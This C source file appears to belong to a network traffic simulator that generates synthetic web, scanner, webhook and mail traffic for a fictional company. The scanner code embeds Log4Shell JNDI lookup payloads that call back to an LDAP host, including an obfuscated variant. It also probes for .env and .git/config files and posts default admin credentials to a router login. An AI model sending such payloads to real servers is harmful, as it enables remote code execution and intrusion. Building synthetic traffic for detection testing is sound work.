// SPDX-License-Identifier: GPL-2.0-or-later
// What comes to the company's exposed servers, and what these answer with: visitors, scanners (some of whom try look-up
// strings that lead nowhere: weather), clients who want to be called back, mail.
#include "company.h"
#include "datagram.h"

#include <stdio.h>

enum { REGULARS = 6000, SCANNERS = 300, PARTNERS = 24, DISCLOSED_DAY = 24 };

static const char *const SITE_NAMES[] = {"www.corp.example", "shop.corp.example", "portal.corp.example",
					 "app.corp.example"};

static const char *const VISITOR_AGENTS[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 "
	"Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	"Version/15.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (compatible; SearchOneBot/2.1; +http://www.search-one.example/bot.html)",
	"FeedReader/3.2 (+http://feeds.example)",
};

// Most come again, some never came before.
static struct host visitor(const struct duty *d)
{
	uint64_t hash = chance_percent(d->chance, 35)
				? chance_next(d->chance)
				: chance_mix(chance_mix(d->company->seed, 50), chance_skewed(d->chance, REGULARS));

	return site_address(hash);
}

void duty_visit_http(struct duty *d)
{
	static const char *const uris[] = {"/", "/style.css", "/news/", "/products/list?page=1", "/feed.json"};
	struct host from = visitor(d);
	struct http_ask ask = {
		"GET", "/", SITE_NAMES[d->member->number % 4], VISITOR_AGENTS[chance_skewed(d->chance, 4)], HTTP_BROWSER,
		NULL,  NULL};
	struct http_answer answer = {200, "nginx/1.18.0", BODY_HTML, 900, false};
	unsigned pages = 1 + chance_skewed(d->chance, 3);
	struct talk t;

	talk_open(&t, d->stage, d->chance, &from, &d->member->host, 80, d->when_ns);
	for (unsigned i = 0; i < pages; i++) {
		ask.uri = uris[chance_skewed(d->chance, 5)];
		http_exchange(&t, &ask, &answer, i ? chance_between(d->chance, 20 * MS, 6 * SEC) : 500 * US);
	}
	talk_close(&t, CLIENT, chance_between(d->chance, 100 * MS, 20 * SEC));
}

void duty_visit_https(struct duty *d)
{
	struct host from = visitor(d);
	struct tls_plan plan = {(enum tls_client)chance_skewed(d->chance, TLS_CLIENTS),
				SITE_NAMES[d->member->number % 4],
				1 + chance_skewed(d->chance, 3),
				420,
				700,
				5 * SEC};
	struct talk t;

	talk_open(&t, d->stage, d->chance, &from, &d->member->host, 443, d->when_ns);
	tls_session(&t, &plan);
}

// Most hand in pictures and documents. Now and then a customer sends the support desk a file of his own site, which nobody asks for.
static const char *upload_name(const struct duty *d, enum body *body, char out[48])
{
	static const char *const scripts[] = {"functions.php", "ticket.php", "checkout-old.php", "Default.aspx", "form.cgi"};
	static const char *const pictures[] = {"IMG_%u.png", "photo-%u.png", "Screenshot %u.png"};
	static const char *const documents[] = {"invoice-%u.pdf", "scan%u.pdf", "order %u (signed).pdf"};
	uint32_t number = chance_below(d->chance, 100000);

	if (chance_below(d->chance, 200) == 0) {
		*body = BODY_TEXT;
		snprintf(out, 48, "%s", scripts[chance_below(d->chance, 5)]);
		return out;
	}
	*body = chance_percent(d->chance, 60) ? BODY_PNG : BODY_PDF;
	snprintf(out, 48, (*body == BODY_PNG ? pictures : documents)[chance_below(d->chance, 3)], number);
	return out;
}

static void fetch_upload(struct duty *d, const struct host *from, const struct http_upload *upload, uint64_t when_ns)
{
	char uri[160] = "/media/";
	struct http_ask ask = {"GET", uri, SITE_NAMES[d->member->number % 4], VISITOR_AGENTS[chance_below(d->chance, 2)],
			       HTTP_BROWSER, NULL, NULL, NULL};
	struct http_answer answer = {200, "nginx/1.18.0", upload->body, upload->bytes, false};
	size_t n = strlen(uri);
	struct talk t;

	for (const char *p = upload->name; *p; p++)
		n += (size_t)snprintf(uri + n, sizeof(uri) - n, *p == ' ' ? "%%20" : "%c", *p);
	talk_open(&t, d->stage, d->chance, from, &d->member->host, 80, when_ns);
	http_exchange(&t, &ask, &answer, 500 * US);
	talk_close(&t, CLIENT, 200 * MS);
}

// A form is opened, filled in and sent with a file, which he, or others, look at afterwards.
void duty_upload(struct duty *d)
{
	struct host from = visitor(d);
	struct host other = visitor(d);
	char name[48];
	struct http_upload upload = {.bytes = (uint32_t)chance_between(d->chance, 1500, 9000)};
	struct http_ask ask = {"GET", "/ticket.php", SITE_NAMES[d->member->number % 4],
			       VISITOR_AGENTS[chance_below(d->chance, 2)], HTTP_BROWSER, NULL, NULL, NULL};
	struct http_answer answer = {200, "nginx/1.18.0", BODY_HTML, 700, false};
	struct talk t;
	uint64_t when;

	upload.name = upload_name(d, &upload.body, name);
	talk_open(&t, d->stage, d->chance, &from, &d->member->host, 80, d->when_ns);
	http_exchange(&t, &ask, &answer, 500 * US);
	ask.method = "POST";
	ask.upload = &upload;
	http_exchange(&t, &ask, &answer, chance_between(d->chance, 5 * SEC, 40 * SEC));
	when = t.now_ns;
	talk_close(&t, CLIENT, 2 * SEC);
	if (upload.body == BODY_TEXT)
		return;
	for (unsigned i = chance_below(d->chance, 3); i; i--) {
		when += chance_between(d->chance, 5 * SEC, 5000 * SEC);
		fetch_upload(d, i == 1 ? &from : &other, &upload, when);
	}
}

static void poke(struct duty *d, const struct host *scanner)
{
	static const struct {
		const char *method, *uri, *agent;
		enum http_client client;
	} pokes[] = {
		{"GET", "/", "Mozilla/5.0 zgrab/0.x", HTTP_CURL},
		{"GET", "/", "masscan/1.3", HTTP_CURL},
		{"GET", "/.env", "Mozilla/5.0 (compatible; InternetSurvey/1.1)", HTTP_CURL},
		{"GET", "/", "-", HTTP_NAMELESS},
		{"GET", "/.git/config", "python-requests/2.26.0", HTTP_PYTHON},
		{"GET", "/owa/auth/logon.aspx", "Go-http-client/1.1", HTTP_PLAIN},
		{"GET", "/actuator/health", "Hello, world", HTTP_PLAIN},
		{"POST", "/boaform/admin/formLogin",
		 "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:71.0) Gecko/20100101 Firefox/71.0", HTTP_PLAIN},
	};
	uint32_t n = chance_skewed(d->chance, 8);
	char host[ADDRESS_TEXT_BYTES], text[ADDRESS_TEXT_BYTES], lookup[120];
	struct http_ask ask = {pokes[n].method,
			       pokes[n].uri,
			       address_format(&d->member->host.address, host),
			       pokes[n].agent,
			       pokes[n].client,
			       NULL,
			       pokes[n].method[0] == 'P' ? "username=admin&psd=admin" : NULL};
	struct http_answer answer = {404, "nginx/1.18.0", BODY_HTML, 300, false};
	struct talk t;

	if (chance_percent(d->chance, d->day < DISCLOSED_DAY ? 3 : 15)) {
		address_format(&scanner->address, text);
		snprintf(lookup, sizeof(lookup),
			 chance_percent(d->chance, 30) ? "${${lower:j}ndi:ldap://%s:1389/a}"
						       : "${jndi:ldap://%s:1389/Exploit}",
			 text);
		ask.agent = lookup;
		ask.client = HTTP_PLAIN;
	}
	talk_open(&t, d->stage, d->chance, scanner, &d->member->host, 80, d->when_ns);
	http_exchange(&t, &ask, &answer, 500 * US);
	talk_close(&t, CLIENT, 5 * MS);
}

void duty_scan(struct duty *d)
{
	static const uint16_t ports[] = {22, 23, 3389, 8080, 445, 1433, 6379, 2375};
	uint64_t hash = chance_percent(d->chance, 20)
				? chance_next(d->chance)
				: chance_mix(chance_mix(d->company->seed, 51), chance_skewed(d->chance, SCANNERS));
	struct host scanner = site_address(hash);
	uint32_t kind = chance_below(d->chance, 10);
	struct talk t;

	if (kind < 4) {
		talk_refused(d->stage, d->chance, &scanner, &d->member->host, ports[chance_skewed(d->chance, 8)],
			     d->when_ns);
		return;
	}
	if (kind < 9) {
		poke(d, &scanner);
		return;
	}
	talk_open(&t, d->stage, d->chance, &scanner, &d->member->host, 443, d->when_ns);
	tls_session(&t, &(struct tls_plan){TLS_GO, NULL, 1, 90, 300, 1 * SEC});
}

// A client hands in where it wants to be told of the result, and is told: an exposed server that honestly calls back.
// One partner joins about every two weeks.
void duty_webhook(struct duty *d)
{
	uint32_t known = PARTNERS / 2 + d->day / 14 + d->member->number;
	uint32_t partner = chance_skewed(d->chance, known < PARTNERS ? known : PARTNERS);
	struct host from = site_address(chance_mix(chance_mix(d->company->seed, 52), partner));
	char name[40], body[96], agent[200];
	struct http_ask ask = {"POST", "/v1/hooks", "hooks.corp.example", "PartnerSync/2.1", HTTP_PLAIN, NULL, body};
	struct http_answer answer = {200, "nginx/1.18.0", BODY_JSON, 120, false};
	struct http_ask tell = {"POST", "/done", name, agent, HTTP_JAVA, NULL, "state=done"};
	struct tls_plan plan = {TLS_JAVA, name, 1, 300, 120, 1 * SEC};
	struct talk t;
	uint64_t when;

	snprintf(name, sizeof(name), "hook.partner-%02u.example", partner);
	snprintf(body, sizeof(body), "callback=https://%s/done&order=%u", name, chance_below(d->chance, 100000));
	program_agent(d->company, d->member, PROGRAM_JAVA, d->day, agent);
	talk_open(&t, d->stage, d->chance, &from, &d->member->host, partner % 5 ? 443 : 80, d->when_ns);
	if (partner % 5)
		tls_session(&t, &(struct tls_plan){TLS_OPENSSL, "hooks.corp.example", 1, 300, 200, 1 * SEC});
	else {
		http_exchange(&t, &ask, &answer, 500 * US);
		talk_close(&t, CLIENT, 20 * MS);
	}
	if (!chance_percent(d->chance, 40))
		return;
	when = t.now_ns + chance_between(d->chance, 500 * MS, 40 * SEC);
	when = name_answer(d->stage, d->chance, &d->member->host, &d->company->member[d->company->resolver[0]].host,
			   name, &from, when, 3 * MS);
	talk_open(&t, d->stage, d->chance, &d->member->host, &from, partner % 5 ? 443 : 80, when + 300 * US);
	if (partner % 5) {
		tls_session(&t, &plan);
		return;
	}
	http_exchange(&t, &tell, &answer, 500 * US);
	talk_close(&t, CLIENT, 20 * MS);
}

// An SMTP dialogue up to STARTTLS, then records.
static void mail_session(struct duty *d, struct talk *t, const char *server, const char *client)
{
	struct message *m = &t->stage->message;

	message_format(m, "220 %s ESMTP ready\r\n", server);
	talk_say(t, SERVER, 5 * MS);
	message_format(m, "EHLO %s\r\n", client);
	talk_say(t, CLIENT, 1 * MS);
	message_format(m, "250-%s\r\n250-SIZE 10240000\r\n250-STARTTLS\r\n250 8BITMIME\r\n", server);
	talk_say(t, SERVER, 1 * MS);
	message_text(m, "STARTTLS\r\n");
	talk_say(t, CLIENT, 1 * MS);
	message_text(m, "220 2.0.0 Ready to start TLS\r\n");
	talk_say(t, SERVER, 1 * MS);
	tls_handshake(t, TLS_OPENSSL, server);
	tls_records(t, CLIENT, (uint32_t)chance_between(d->chance, 800, 2500), 1 * MS);
	tls_records(t, SERVER, 50, 2 * MS);
	talk_close(t, CLIENT, 5 * MS);
}

void duty_mail_in(struct duty *d)
{
	uint32_t peer = chance_skewed(d->chance, 2000);
	struct host from = site_address(chance_mix(chance_mix(d->company->seed, 53), peer));
	char server[32], client[40];
	struct talk t;

	snprintf(server, sizeof(server), "mx%u.corp.example", d->member->number + 1);
	snprintf(client, sizeof(client), "out.mailer-%u.example", peer);
	talk_open(&t, d->stage, d->chance, &from, &d->member->host, 25, d->when_ns);
	mail_session(d, &t, server, client);
}

void duty_mail_out(struct duty *d)
{
	// New correspondents every week: 1 in 30 mails goes to a domain nobody wrote to.
	uint32_t peer =
		chance_below(d->chance, 30) ? chance_skewed(d->chance, 700) : 10000 + chance_below(d->chance, 1u << 24);
	struct host to = site_address(chance_mix(chance_mix(d->company->seed, 53), peer));
	char server[40], client[32];
	struct talk t;
	uint64_t when;

	snprintf(server, sizeof(server), "mx.mailer-%u.example", peer);
	snprintf(client, sizeof(client), "mx%u.corp.example", d->member->number + 1);
	when = name_answer(d->stage, d->chance, &d->member->host, &d->company->member[d->company->resolver[0]].host,
			   server, &to, d->when_ns, 8 * MS);
	talk_open(&t, d->stage, d->chance, &d->member->host, &to, 25, when + 300 * US);
	mail_session(d, &t, server, client);
}
